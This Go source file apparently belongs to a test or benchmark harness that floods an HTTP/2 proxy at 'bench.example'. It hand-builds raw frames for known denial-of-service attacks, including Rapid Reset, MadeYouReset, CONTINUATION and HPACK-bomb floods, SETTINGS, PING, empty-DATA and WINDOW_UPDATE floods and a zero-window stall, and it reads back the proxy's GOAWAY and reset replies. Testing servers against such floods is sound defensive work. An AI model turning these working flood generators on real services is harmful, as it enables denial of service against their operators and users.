package abuse

import (
	"bufio"
	"encoding/binary"
	"errors"
	"io"
	"os"
	"slices"
	"time"

	"golang.org/x/net/http2"
)

// Frame types and flags of RFC 9113 that are written here.
const (
	typeData, typeHeaders, typeReset, typeSettings, typePing, typeGoaway, typeWindow, typeContinuation = 0, 1, 3, 4, 6, 7, 8, 9

	flagEndStream, flagEndHeaders = 1, 4
)

func frame(b []byte, kind, flags byte, stream uint32, payload ...byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// block is a request's header block, without Huffman coding and without the dynamic table; post or
// get.
func block(post bool, path string) []byte {
	b := []byte{0x82, 0x87, 0x04, byte(len(path))}
	if post {
		b[0] = 0x83
	}
	b = append(b, path...)
	const authority = "bench.example"
	return append(append(b, 0x01, byte(len(authority))), authority...)
}

// frames makes the next piece of a flood, which has units frames in it; turn counts the pieces of a
// connection from 0.
type frames func(b []byte, turn int) (_ []byte, units int)

// each is how many frames or pairs a piece of a flood has: some 16 KiB of them, so that the
// attacker pays for few system calls.
const each = 256

func flood(f frames) func(*conn) error       { return func(c *conn) error { return c.flood(f, true) } }
func floodUnread(f frames) func(*conn) error { return func(c *conn) error { return c.flood(f, false) } }

// begin sends the client's preface.
func (c *conn) begin(settings ...byte) error {
	return c.send(frame([]byte(http2.ClientPreface), typeSettings, 0, 0, settings...), 1)
}

// flood sends pieces until the connection fails. What the proxy says is read meanwhile, or only
// afterwards.
func (c *conn) flood(f frames, read bool) error {
	if err := c.begin(); err != nil {
		return err
	}
	heard := make(chan error, 1)
	if read {
		go func() { heard <- c.listen() }()
	}
	var err error
	var buf []byte
	for turn := 0; err == nil; turn++ {
		var units int
		buf, units = f(buf[:0], turn)
		err = c.send(buf, units)
	}
	if !read {
		go func() { heard <- c.listen() }()
	}
	// What it said last may still be on the way.
	if !errors.Is(err, os.ErrDeadlineExceeded) {
		_ = c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
	}
	if e := <-heard; e != nil && !errors.Is(e, os.ErrDeadlineExceeded) {
		return e
	}
	return err
}

// listen reads frames until the connection ends, for what they say of the end.
func (c *conn) listen() error {
	r := bufio.NewReaderSize(c.Conn, 16<<10)
	for {
		head, err := r.Peek(9)
		if err != nil {
			return err
		}
		n, kind := int(head[0])<<16|int(head[1])<<8|int(head[2]), head[3]
		_, _ = r.Discard(9)
		switch kind {
		case typeGoaway:
			var b [8]byte
			if _, err := io.ReadFull(r, b[:min(n, 8)]); err != nil {
				return err
			}
			// A first GOAWAY without an error announces a second one.
			if code := http2.ErrCode(binary.BigEndian.Uint32(b[4:])); c.said == "" || code != 0 {
				c.said = "GOAWAY " + code.String()
			}
			n = max(0, n-8)
		case typeReset:
			c.resets.Add(1)
		case typeHeaders:
			c.answers.Add(1)
		}
		if _, err := r.Discard(n); err != nil {
			return err
		}
	}
}

var (
	getBlock  = block(false, "/bytes/1024")
	sinkBlock = block(true, "/sink")
)

func rapidReset(b []byte, turn int) ([]byte, int) {
	for i := range each {
		id := uint32(2*(turn*each+i) + 1)
		b = frame(b, typeHeaders, flagEndStream|flagEndHeaders, id, getBlock...)
		b = frame(b, typeReset, 0, id, 0, 0, 0, byte(http2.ErrCodeCancel))
	}
	return b, 2 * each
}

func madeYouReset(b []byte, turn int) ([]byte, int) {
	for i := range each {
		id := uint32(2*(turn*each+i) + 1)
		b = frame(b, typeHeaders, flagEndStream|flagEndHeaders, id, getBlock...)
		b = frame(b, typeWindow, 0, id, 0, 0, 0, 0)
	}
	return b, 2 * each
}

// opened begins stream 1 in the first piece of a flood.
func opened(b []byte, turn int, flags byte, block []byte) []byte {
	if turn == 0 {
		b = frame(b, typeHeaders, flags, 1, block...)
	}
	return b
}

func continuation(b []byte, turn int) ([]byte, int) {
	b = opened(b, turn, flagEndStream, getBlock)
	for range 4 * each {
		b = frame(b, typeContinuation, 0, 1)
	}
	return b, 4 * each
}

// shortFields are 16 KiB of literal fields.
var shortFields = slices.Repeat([]byte{0x00, 4, 'x', '-', 'a', 'b', 4, 'c', 'd', 'e', 'f'}, 1480)

func headerList(b []byte, turn int) ([]byte, int) {
	b = opened(b, turn, flagEndStream, getBlock)
	return frame(b, typeContinuation, 0, 1, shortFields...), 1
}

// bomb puts a field of 4,000 bytes into the dynamic table and refers to it twelve thousand times, a
// byte each.
var bomb = func() []byte {
	b := append(slices.Clone(getBlock), 0x40, 6)
	b = append(b, "x-bomb"...)
	b = append(b, 0x7f, 0xa1, 0x1e) // 4000, with a prefix of 7 bits
	b = append(b, slices.Repeat([]byte{'b'}, 4000)...)
	return append(b, slices.Repeat([]byte{0x80 | 62}, 12000)...)
}()

func hpackBomb(b []byte, turn int) ([]byte, int) {
	return frame(b, typeHeaders, flagEndStream|flagEndHeaders, uint32(2*turn+1), bomb...), 1
}

func settings(b []byte, turn int) ([]byte, int) {
	for i := range 4 * each {
		// SETTINGS_INITIAL_WINDOW_SIZE, another value each time
		b = frame(b, typeSettings, 0, 0, 0, 4, 0, 0, byte(turn), byte(i))
	}
	return b, 4 * each
}

func ping(b []byte, turn int) ([]byte, int) {
	for i := range 4 * each {
		b = frame(b, typePing, 0, 0, 0, 0, 0, 0, 0, 0, byte(turn), byte(i))
	}
	return b, 4 * each
}

func emptyData(b []byte, turn int) ([]byte, int) {
	b = opened(b, turn, flagEndHeaders, sinkBlock)
	for range 4 * each {
		b = frame(b, typeData, 0, 1)
	}
	return b, 4 * each
}

func windowUpdate(b []byte, _ int) ([]byte, int) {
	for range 4 * each {
		b = frame(b, typeWindow, 0, 0, 0, 0, 0, 1)
	}
	return b, 4 * each
}

// zeroWindow asks for much, and lets none of it come.
func zeroWindow(c *conn) error {
	if err := c.begin(0, 4, 0, 0, 0, 0); err != nil { // SETTINGS_INITIAL_WINDOW_SIZE 0
		return err
	}
	var b []byte
	large := block(false, "/bytes/1048576")
	for i := range uint32(100) {
		b = frame(b, typeHeaders, flagEndStream|flagEndHeaders, 2*i+1, large...)
	}
	if err := c.send(b, 100); err != nil {
		return err
	}
	return c.listen()
}
